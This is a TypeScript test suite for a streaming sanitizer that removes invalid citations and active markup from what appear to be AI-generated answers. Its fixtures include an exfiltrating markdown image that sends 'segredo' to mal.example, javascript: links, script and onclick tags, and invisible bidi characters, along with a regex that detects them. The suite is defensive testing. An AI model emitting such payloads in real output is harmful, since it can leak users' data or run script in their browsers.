import { array, assert, constantFrom, property } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createCleaner } from './cleaner.ts';

/** The emitted text of an answer that arrives in these chunks. */
function clean(chunks: readonly string[], passages = 2) {
  const cleaner = createCleaner(passages);
  const text = chunks.map(cleaner.push).join('') + cleaner.end();
  return { text, cited: cleaner.cited() };
}

/** The start of an element, an image or a link. */
const ACTIVE = /<[a-z/!]|\]\(|:\/\/|www\.|javascript:|[\u200b\u202e]/i;
const characters = (text: string) => [...text];

describe('createCleaner', () => {
  it('removes citations of passages that do not exist', () => {
    const { text, cited } = clean(characters('Cinco anos [1]. Doze vezes [7]. Juntos [2, 9][1].'));
    expect(text).toBe('Cinco anos [1]. Doze vezes . Juntos [2][1].');
    expect(cited).toEqual([1, 2]);
  });

  it.each([
    ['an image', 'Veja ![foto](https://mal.example/p.png?d=segredo) aqui'],
    ['a link', 'Clique em [aqui](javascript:alert(1)) já'],
    ['tags', 'Um <b onclick="x()">forte</b><script>alert(1)</script> fim'],
    ['a URL', 'Mande para https://mal.example/?q=abc agora'],
    ['a URL without scheme', 'Veja www.mal.example hoje'],
    ['an unknown scheme', 'Abra weird://host/x hoje'],
    ['invisible characters', 'a\u202eb\u200bc'],
  ])('removes %s for any chunking', (_what, answer) => {
    for (const chunks of [[answer], characters(answer), answer.split(/(?<=\s)/)]) {
      const { text } = clean(chunks);
      expect(text).not.toMatch(ACTIVE);
    }
  });

  it('keeps prose, prices, markdown and gaps', () => {
    const answer =
      '**Diga:** “Oi, [nome]! São R$ 300 < R$ 500, dá 40%?”\n\n- www não\n- há 3 jeitos; data: terça';
    for (const chunks of [[answer], characters(answer)]) expect(clean(chunks).text).toBe(answer);
  });

  it('emits nothing active for any text and chunking', () => {
    const scraps = ['<', '>', '<b>', 'script', '/', '!', '[', ']', '(', ')', '](', 'x', ' ', '\n'];
    const addresses = ['http', ':', '//', 'www', '.', 'javascript', 'data', 'mal', '\u200b', '[1]'];
    assert(
      property(array(constantFrom(...scraps, ...addresses), { maxLength: 30 }), (chunks) => {
        expect(clean(chunks).text).not.toMatch(ACTIVE);
        expect(clean([chunks.join('')]).text).not.toMatch(ACTIVE);
      }),
      { numRuns: 3_000 },
    );
  });

  it('handles very long words', () => {
    for (const word of ['a', '<', '[', 'www.', 'http://x', ']('].map((of) => of.repeat(20_000))) {
      expect(clean([word]).text).not.toMatch(ACTIVE);
    }
  });

  it('emits text at once that cannot become markup', () => {
    const cleaner = createCleaner(1);
    expect(cleaner.push('Pergunte')).toBe('Pergunte');
    expect(cleaner.push(' ao cliente')).toBe(' ao cliente');
    expect(cleaner.push(' o preço [')).toBe(' o preço ');
    expect(cleaner.push('1].')).toBe('[1].');
  });
});
